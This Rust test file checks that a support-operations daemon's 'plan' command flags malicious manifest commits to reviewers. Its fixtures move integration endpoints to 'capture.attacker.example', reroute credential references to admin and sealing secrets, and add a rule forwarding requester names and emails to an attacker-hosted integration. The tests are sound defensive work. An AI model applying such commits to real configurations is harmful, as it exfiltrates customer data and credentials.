//! Attacks on the pull-request review: a malicious manifest commit that `plan` must show a
//! reviewer (SEC-03). The commits are modelled on the security review's: an endpoint moved to
//! the attacker's host, credential references moved to the daemon's own secrets or to another
//! integration's, and a rule sending event data somewhere new. Each test fails without the
//! security-sensitive block, the reference rendering or `--fail-on-sensitive`.
//!
//! The plan example of docs/commands.md is the markdown plan of [`valid_malicious_commit`],
//! written by `SUPPORTOPSD_BLESS=1 cargo test` and checked by
//! [`docs_example_is_the_plan_of_the_valid_malicious_commit`].

use std::path::Path;

use crate::support::{Output, TestRepo};

const FRESHDESK: &str = r#"id = "freshdesk-main"
platform = "freshdesk"
name = "Acme Freshdesk"

[credentials]
domain = "acme.freshdesk.com"
api_key = { env = "FRESHDESK_API_KEY" }

[webhook]
events = ["ticket_created"]
"#;

const SLACK: &str = r#"id = "slack-main"
platform = "slack"
name = "Acme Slack"

[credentials]
bot_token = { env = "SLACK_BOT_TOKEN" }
signing_secret = { env = "SLACK_SIGNING_SECRET" }
"#;

const NOTION: &str = r#"id = "notion-wiki"
platform = "notion"
name = "Escalation notes"

[credentials]
token = { env = "NOTION_TOKEN" }

[config]
default_parent_page = "1f0e2d3c4b5a69788796a5b4c3d2e1f0"
"#;

const URGENT: &str = r##"id = "urgent-to-slack"

[trigger]
integration = "freshdesk-main"
event = "ticket_created"

[trigger.conditions]
priority = 4

[[actions]]
integration = "slack-main"
action = "send_message"

[actions.parameters]
channel = "#urgent-tickets"
message = "Urgent ticket #{{ ticket.id }}: {{ ticket.subject }}"
"##;

/// A rule sending every new ticket, requester included, to `integration` (a Notion one).
fn exfil_rule(id: &str, integration: &str) -> String {
    format!(
        r##"id = "{id}"

[trigger]
integration = "freshdesk-main"
event = "ticket_created"

[[actions]]
integration = "{integration}"
action = "create_page"

[actions.parameters]
title = "{{{{ ticket.subject }}}}"
markdown = "{{{{ requester.name }}}} <{{{{ requester.email }}}}>: {{{{ ticket.url }}}}"
"##
    )
}

/// The values behind every reference the commits name: none may appear in any plan.
const SECRET_VALUES: &[(&str, &str)] = &[
    ("FRESHDESK_API_KEY", "fd-real-api-key-123"),
    ("SLACK_BOT_TOKEN", "xoxb-real-bot-456"),
    ("SLACK_SIGNING_SECRET", "slack-signing-real-789"),
    ("NOTION_TOKEN", "ntn_real_notion_token"),
    ("SUPPORTOPSD_ADMIN_TOKEN", "admin-token-s3cret"),
    ("SUPPORTOPSD_SYNC_SECRET", "sync-secret-s3cret"),
];

/// The sealing key file's content, in a credentials directory the plans run with.
const KEY_FILE_VALUE: &str = "sealing-key-value-must-not-show-0123456789abcdef";

/// Commits everything with a fixed author, committer and time, so that commit ids (which the
/// plan shows) are the same on every run.
fn commit(repo: &TestRepo, message: &str, time: i64) -> String {
    let git = git2::Repository::open(repo.path())
        .or_else(|_| git2::Repository::init(repo.path()))
        .unwrap();
    let mut index = git.index().unwrap();
    index
        .add_all(["*"].iter(), git2::IndexAddOption::DEFAULT, None)
        .unwrap();
    index.update_all(["*"].iter(), None).unwrap();
    index.write().unwrap();
    let tree = git.find_tree(index.write_tree().unwrap()).unwrap();
    let sig = git2::Signature::new(
        "Reviewer Test",
        "test@example.invalid",
        &git2::Time::new(time, 0),
    )
    .unwrap();
    let parent = git.head().ok().and_then(|h| h.peel_to_commit().ok());
    let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
    git.commit(Some("HEAD"), &sig, &sig, message, &tree, &parents)
        .unwrap()
        .to_string()
}

/// The reviewed base: Freshdesk tickets to Slack, a Notion wiki on the side.
fn base_repo() -> TestRepo {
    let repo = TestRepo::new();
    repo.file("integrations/freshdesk-main.toml", FRESHDESK)
        .file("integrations/slack-main.toml", SLACK)
        .file("integrations/notion-wiki.toml", NOTION)
        .file("rules/urgent-to-slack.toml", URGENT);
    commit(&repo, "Freshdesk to Slack", 1_767_225_600);
    repo
}

/// The review's malicious commit: Freshdesk's endpoint moved to the attacker's host and its
/// API key reference to the sealing key file, Slack's bot token to the admin token, the
/// Freshdesk webhook secret to the sync secret, and a new rule sending tickets to Notion.
fn review_malicious_commit(repo: &TestRepo) {
    let fd = FRESHDESK
        .replace(
            "api_key = { env = \"FRESHDESK_API_KEY\" }",
            "api_key = { file = \"supportopsd.key\" }",
        )
        .replace(
            "events = [\"ticket_created\"]\n",
            "events = [\"ticket_created\"]\nsecret = { env = \"SUPPORTOPSD_SYNC_SECRET\" }\n\n[endpoint]\nbase_url = \"https://capture.attacker.example\"\n",
        );
    let slack = SLACK.replace("SLACK_BOT_TOKEN", "SUPPORTOPSD_ADMIN_TOKEN");
    repo.file("integrations/freshdesk-main.toml", &fd)
        .file("integrations/slack-main.toml", &slack)
        .file(
            "rules/ticket-notes.toml",
            &exfil_rule("ticket-notes", "notion-wiki"),
        );
    commit(repo, "Tidy up integrations", 1_767_229_200);
}

/// A variant that names none of the daemon's own secrets, so it stays valid once `validate`
/// refuses those: Freshdesk's endpoint moved to the attacker's host, Slack's bot token taken
/// from Freshdesk's API key variable, and a new Notion integration at the attacker's host,
/// reusing the wiki's token, that a new rule sends every ticket to.
fn valid_malicious_commit(repo: &TestRepo) {
    let fd = FRESHDESK.replace(
        "events = [\"ticket_created\"]\n",
        "events = [\"ticket_created\"]\n\n[endpoint]\nbase_url = \"https://capture.attacker.example\"\n",
    );
    let slack = SLACK.replace("SLACK_BOT_TOKEN", "FRESHDESK_API_KEY");
    let notion = NOTION
        .replace("notion-wiki", "notion-archive")
        .replace("Escalation notes", "Ticket archive")
        + "\n[endpoint]\nbase_url = \"https://capture.attacker.example\"\n";
    repo.file("integrations/freshdesk-main.toml", &fd)
        .file("integrations/slack-main.toml", &slack)
        .file("integrations/notion-archive.toml", &notion)
        .file(
            "rules/ticket-archive.toml",
            &exfil_rule("ticket-archive", "notion-archive"),
        );
    commit(repo, "Archive tickets in Notion", 1_767_229_200);
}

/// A benign commit: the Slack message reworded.
fn benign_commit(repo: &TestRepo) {
    repo.file(
        "rules/urgent-to-slack.toml",
        &URGENT.replace("Urgent ticket", "URGENT ticket"),
    );
    commit(repo, "Reword the urgent message", 1_767_229_200);
}

/// Runs `plan ARGS…` with every referenced secret set in the environment and the sealing key
/// in a credentials directory.
fn plan(repo: &TestRepo, args: &[&str]) -> Output {
    let creds = tempfile::tempdir().unwrap();
    std::fs::write(creds.path().join("supportopsd.key"), KEY_FILE_VALUE).unwrap();
    let mut env: Vec<(&str, &str)> = SECRET_VALUES.to_vec();
    let dir = creds.path().to_str().unwrap().to_owned();
    env.push(("CREDENTIALS_DIRECTORY", &dir));
    let mut all = vec!["plan", "--base", "HEAD~1"];
    all.extend_from_slice(args);
    repo.run_with(&all, &env, None)
}

/// Asserts that no value behind a reference appears in `out`.
fn assert_no_secret_value(out: &Output) {
    for (var, value) in SECRET_VALUES
        .iter()
        .copied()
        .chain([("supportopsd.key", KEY_FILE_VALUE)])
    {
        assert!(
            !out.stdout.contains(value) && !out.stderr.contains(value),
            "the value of {var} leaked:\n{}\n{}",
            out.stdout,
            out.stderr
        );
    }
}

/// The markdown plan, up to the first collapsed section.
fn head_of_markdown(md: &str) -> &str {
    md.find("<details>").map_or(md, |i| &md[..i])
}

/// SEC-03 (with SEC-02): the review's own malicious commit names the daemon's secrets, so it
/// no longer gets as far as a plan: `plan` refuses it as invalid (exit 1, also with
/// `--fail-on-sensitive`), names each refused reference, and shows no value behind any of them.
#[test]
fn sec_03_the_reviews_commit_is_refused_before_it_is_planned() {
    let repo = base_repo();
    review_malicious_commit(&repo);
    for args in [
        &["--format", "markdown"][..],
        &["--fail-on-sensitive", "--detailed-exitcode"][..],
    ] {
        let out = plan(&repo, args);
        assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
        assert_no_secret_value(&out);
        for name in [
            "supportopsd.key",
            "SUPPORTOPSD_ADMIN_TOKEN",
            "SUPPORTOPSD_SYNC_SECRET",
        ] {
            assert!(
                out.stderr.contains(name),
                "{name} is not named in:\n{}",
                out.stderr
            );
        }
    }
}

/// SEC-03: `--fail-on-sensitive` exits 3 on the malicious commit, also with
/// `--detailed-exitcode` (3 takes precedence over 2), and says why on stderr.
#[test]
fn sec_03_fail_on_sensitive_exits_3_on_a_malicious_commit() {
    {
        let repo = base_repo();
        valid_malicious_commit(&repo);
        let out = plan(&repo, &["--fail-on-sensitive"]);
        assert_eq!(out.code, 3, "{}{}", out.stdout, out.stderr);
        assert!(
            out.stderr.contains("security-sensitive change(s)"),
            "{}",
            out.stderr
        );
        let out = plan(
            &repo,
            &[
                "--fail-on-sensitive",
                "--detailed-exitcode",
                "--format",
                "markdown",
            ],
        );
        assert_eq!(out.code, 3, "{}", out.stderr);
        assert_no_secret_value(&out);
        // Without the flag, the plan is an ordinary one.
        assert_eq!(plan(&repo, &["--detailed-exitcode"]).code, 2);
        assert_eq!(plan(&repo, &[]).code, 0);
    }
}

/// SEC-03: a benign change is not security-sensitive: `--fail-on-sensitive` exits 0, or 2
/// with `--detailed-exitcode`, and the plan says there is nothing sensitive.
#[test]
fn sec_03_a_benign_commit_passes_fail_on_sensitive() {
    let repo = base_repo();
    benign_commit(&repo);
    let out = plan(&repo, &["--fail-on-sensitive", "--format", "markdown"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("No security-sensitive changes."),
        "{}",
        out.stdout
    );
    let out = plan(&repo, &["--fail-on-sensitive", "--detailed-exitcode"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
}

/// SEC-03: an error still wins over sensitive changes: a malicious commit that does not
/// validate exits 1.
#[test]
fn sec_03_an_invalid_commit_exits_1_before_3() {
    let repo = base_repo();
    review_malicious_commit(&repo);
    repo.file(
        "rules/ticket-notes.toml",
        &exfil_rule("ticket-notes", "notion-wiki").replace("create_page", "create_pag"),
    );
    commit(&repo, "broken", 1_767_232_800);
    let out = plan(&repo, &["--fail-on-sensitive", "--detailed-exitcode"]);
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
}

/// SEC-03: JSON carries the block (format 1.1) with what, where, before → after, and the
/// field changes carry references; no format shows a value behind a reference.
#[test]
fn sec_03_json_has_the_block_and_no_format_shows_a_secret_value() {
    let repo = base_repo();
    valid_malicious_commit(&repo);
    let out = plan(&repo, &["--format", "json"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_no_secret_value(&out);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["format_version"], "1.2");
    let block = v["security_sensitive"].as_array().unwrap();
    let kinds: std::collections::BTreeSet<&str> =
        block.iter().map(|s| s["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        [
            "credential_reference",
            "endpoint",
            "new_destination",
            "shared_reference"
        ]
        .into_iter()
        .collect()
    );
    let token = block
        .iter()
        .find(|s| s["kind"] == "credential_reference" && s["resource"]["id"] == "slack-main")
        .expect("the bot token's reference change");
    assert_eq!(token["resource"]["kind"], "integration");
    assert_eq!(token["field"], "credentials.bot_token");
    assert_eq!(token["before"], "env:SLACK_BOT_TOKEN");
    assert_eq!(token["after"], "env:FRESHDESK_API_KEY");
    let endpoint = block
        .iter()
        .find(|s| s["kind"] == "endpoint" && s["resource"]["id"] == "freshdesk-main")
        .expect("the endpoint change");
    assert_eq!(endpoint["after"], "https://capture.attacker.example");
    for format in ["text", "markdown"] {
        assert_no_secret_value(&plan(&repo, &["--format", format]));
    }
}

/// SEC-03: the variant that names none of the daemon's own secrets (valid once `validate`
/// refuses those) shows the shared reference and the new integration at the attacker's host.
#[test]
fn sec_03_the_valid_variant_shows_shared_references_and_new_destinations() {
    let repo = base_repo();
    valid_malicious_commit(&repo);
    let validate = repo.run(&["validate"]);
    assert_eq!(validate.code, 0, "{}", validate.stderr);
    let out = plan(&repo, &["--format", "markdown"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_no_secret_value(&out);
    let head = head_of_markdown(&out.stdout);
    for line in [
        "- **endpoint** integration `freshdesk-main`: `base_url: (platform default) → https://capture.attacker.example`",
        "- **endpoint** integration `notion-archive`: `base_url: (platform default) → https://capture.attacker.example`",
        "- **credential_reference** integration `slack-main`: `credentials.bot_token: env:SLACK_BOT_TOKEN → env:FRESHDESK_API_KEY`",
        "- **shared_reference** integration `slack-main`: `credentials.bot_token = env:FRESHDESK_API_KEY, the same reference as integration freshdesk-main (credentials.api_key)`",
        "- **shared_reference** integration `notion-archive`: `credentials.token = env:NOTION_TOKEN, the same reference as integration notion-wiki (credentials.token)`",
        "- **new_destination** rule `ticket-archive`: `new rule: sends event data from freshdesk-main to notion-archive`",
    ] {
        assert!(head.contains(line), "missing {line:?} in:\n{}", out.stdout);
    }
}

const EXAMPLE_START: &str = "<!-- plan-example: the markdown plan of the valid malicious commit in tests/integration/attacks_plan.rs, up to its first collapsed section; `SUPPORTOPSD_BLESS=1 cargo test` rewrites it -->\n```markdown\n";
const EXAMPLE_END: &str = "```\n<!-- /plan-example -->";

/// SEC-03: docs/commands.md's example is what the binary prints for the valid malicious commit
/// (commits with fixed times, so the ids match); `SUPPORTOPSD_BLESS=1` rewrites it.
#[test]
fn docs_example_is_the_plan_of_the_valid_malicious_commit() {
    let repo = base_repo();
    valid_malicious_commit(&repo);
    let out = plan(&repo, &["--format", "markdown"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let want = head_of_markdown(&out.stdout).trim_end().to_owned() + "\n";
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/commands.md");
    let readme = std::fs::read_to_string(&path).unwrap();
    let start = readme
        .find(EXAMPLE_START)
        .expect("docs/commands.md's plan example")
        + EXAMPLE_START.len();
    let end = start + readme[start..].find(EXAMPLE_END).expect("its end marker");
    if std::env::var_os("SUPPORTOPSD_BLESS").is_some() {
        let updated = format!("{}{want}{}", &readme[..start], &readme[end..]);
        std::fs::write(&path, updated).unwrap();
        return;
    }
    assert!(
        readme[start..end] == want,
        "the plan example of docs/commands.md is stale: regenerate it with `SUPPORTOPSD_BLESS=1 cargo test` and commit the result\nwant:\n{want}"
    );
}
